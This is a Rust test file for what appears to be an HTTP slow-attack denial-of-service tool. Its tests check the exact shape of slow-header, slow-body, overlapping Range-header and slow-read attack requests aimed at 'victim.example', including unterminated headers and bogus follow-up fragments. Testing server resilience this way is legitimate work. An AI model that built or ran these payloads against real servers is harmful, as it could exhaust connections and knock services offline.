use treacle_common::{AttackMode, ProxyMode, TestConfig};
use treacle_engine::request::{self, generate_range_header, RequestSet};
use treacle_engine::target::TargetUrl;
use treacle_engine::textgen::TextGenerator;

fn config_for(mode: AttackMode, url: &str) -> TestConfig {
    let mut config = TestConfig::default();
    config.mode = mode;
    config.url = url.to_string();
    config
}

fn build(config: &TestConfig) -> RequestSet {
    let target = TargetUrl::parse(&config.url).unwrap();
    let mut gen = TextGenerator::new();
    request::build(config, &target, &mut gen)
}

#[test]
fn test_header_template_leaves_the_header_block_open() {
    let config = config_for(AttackMode::Header, "http://victim.example/");
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();

    assert!(attack.starts_with("GET / HTTP/1.1\r\n"));
    assert!(attack.contains("Host: victim.example\r\n"));
    assert!(attack.contains("User-Agent: "));
    assert!(attack.contains("Referer: "));
    // the terminator never goes out; follow-up headers keep the request open
    assert!(!attack.contains("\r\n\r\n"));
    assert!(set.follow_up.is_some());
}

#[test]
fn test_body_template_declares_a_large_body_and_starts_it() {
    let mut config = config_for(AttackMode::Body, "http://victim.example/");
    config.body.content_length = 9000;
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();

    assert!(attack.starts_with("POST / HTTP/1.1\r\n"));
    assert!(attack.contains("Content-Length: 9000\r\n"));
    assert!(attack.contains("Content-Type: application/x-www-form-urlencoded\r\n"));
    assert!(attack.contains("Accept: "));
    assert!(attack.contains("Connection: close\r\n\r\n"));
    assert!(attack.ends_with("foo=bar"));
    assert!(set.follow_up.is_some());
}

#[test]
fn test_range_template_is_one_complete_request() {
    let mut config = config_for(AttackMode::Range, "http://victim.example/");
    config.range.start = 5;
    config.range.limit = 10;
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();

    assert!(attack.starts_with("HEAD / HTTP/1.1\r\n"));
    assert!(attack.contains("Range: bytes=0-,5-5,5-6,5-7,5-8,5-9,5-10\r\n"));
    assert!(attack.ends_with("\r\n\r\n"));
    assert!(set.follow_up.is_none());
}

#[test]
fn test_range_header_contract() {
    assert_eq!(
        generate_range_header(5, 1, 10),
        "Range: bytes=0-,5-5,5-6,5-7,5-8,5-9,5-10\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n"
    );
}

#[test]
fn test_range_header_respects_step() {
    let header = generate_range_header(10, 5, 25);
    assert!(header.starts_with("Range: bytes=0-,10-10,10-15,10-20,10-25\r\n"));
}

#[test]
fn test_slow_read_template_pipelines_full_requests() {
    let mut config = config_for(AttackMode::SlowRead, "http://victim.example/");
    config.slow_read.pipeline_factor = 3;
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();

    assert_eq!(attack.matches("GET / HTTP/1.1\r\n").count(), 3);
    assert_eq!(attack.matches("Connection: Keep-Alive\r\n").count(), 3);
    assert!(attack.ends_with("\r\n\r\n"));
    assert!(set.follow_up.is_none());
}

#[test]
fn test_slow_read_single_request_skips_keep_alive() {
    let config = config_for(AttackMode::SlowRead, "http://victim.example/");
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();

    assert_eq!(attack.matches("GET / HTTP/1.1\r\n").count(), 1);
    assert!(!attack.contains("Keep-Alive"));
    assert!(attack.ends_with("\r\n\r\n"));
}

#[test]
fn test_http_proxy_switches_both_templates_to_absolute_uris() {
    let mut config = config_for(AttackMode::Header, "http://victim.example:8080/admin");
    config.proxy.mode = ProxyMode::Http;
    config.proxy.address = Some("127.0.0.1:3128".to_string());
    let set = build(&config);

    let attack = std::str::from_utf8(&set.attack).unwrap();
    let probe = std::str::from_utf8(&set.probe).unwrap();
    assert!(attack.starts_with("GET http://victim.example:8080/admin HTTP/1.1\r\n"));
    assert!(probe.starts_with("GET http://victim.example:8080/admin HTTP/1.1\r\n"));
}

#[test]
fn test_probe_proxy_diverts_only_the_probe() {
    let mut config = config_for(AttackMode::Header, "http://victim.example/");
    config.proxy.mode = ProxyMode::Probe;
    config.proxy.probe_address = Some("127.0.0.1:3128".to_string());
    let set = build(&config);

    let attack = std::str::from_utf8(&set.attack).unwrap();
    let probe = std::str::from_utf8(&set.probe).unwrap();
    assert!(attack.starts_with("GET / HTTP/1.1\r\n"));
    assert!(probe.starts_with("GET http://victim.example/ HTTP/1.1\r\n"));
}

#[test]
fn test_probe_request_is_always_complete() {
    for mode in [
        AttackMode::Header,
        AttackMode::Body,
        AttackMode::Range,
        AttackMode::SlowRead,
    ] {
        let config = config_for(mode, "http://victim.example/");
        let set = build(&config);
        let probe = std::str::from_utf8(&set.probe).unwrap();
        assert!(probe.starts_with("GET / HTTP/1.1\r\n"));
        assert!(probe.ends_with("\r\n\r\n"));
        assert!(probe.contains("Host: victim.example\r\n"));
    }
}

#[test]
fn test_host_header_carries_nonstandard_port() {
    let config = config_for(AttackMode::Header, "http://victim.example:8080/");
    let set = build(&config);
    let attack = std::str::from_utf8(&set.attack).unwrap();
    assert!(attack.contains("Host: victim.example:8080\r\n"));
}

#[test]
fn test_verb_override_reaches_the_request_line() {
    let mut config = config_for(AttackMode::Body, "http://victim.example/");
    config.verb = Some("PUT".to_string());
    let set = build(&config);
    assert!(std::str::from_utf8(&set.attack)
        .unwrap()
        .starts_with("PUT / HTTP/1.1\r\n"));
}

#[test]
fn test_header_fragments_look_like_bogus_headers() {
    let config = config_for(AttackMode::Header, "http://victim.example/");
    let set = build(&config);
    let mut gen = TextGenerator::new();
    let pattern = set.follow_up.unwrap();

    let frag = pattern.render(&mut gen, 8);
    assert!(frag.starts_with("X-"));
    assert!(frag.ends_with("\r\n"));
    assert!(frag.contains(": "));
    assert_eq!(frag.len(), 2 + 8 + 2 + 8 + 2);
}

#[test]
fn test_body_fragments_look_like_form_fields() {
    let config = config_for(AttackMode::Body, "http://victim.example/");
    let set = build(&config);
    let mut gen = TextGenerator::new();
    let pattern = set.follow_up.unwrap();

    let frag = pattern.render(&mut gen, 8);
    assert!(frag.starts_with('&'));
    assert!(frag.contains('='));
    assert!(!frag.ends_with("\r\n"));
    assert_eq!(frag.len(), 1 + 8 + 1 + 8);
}
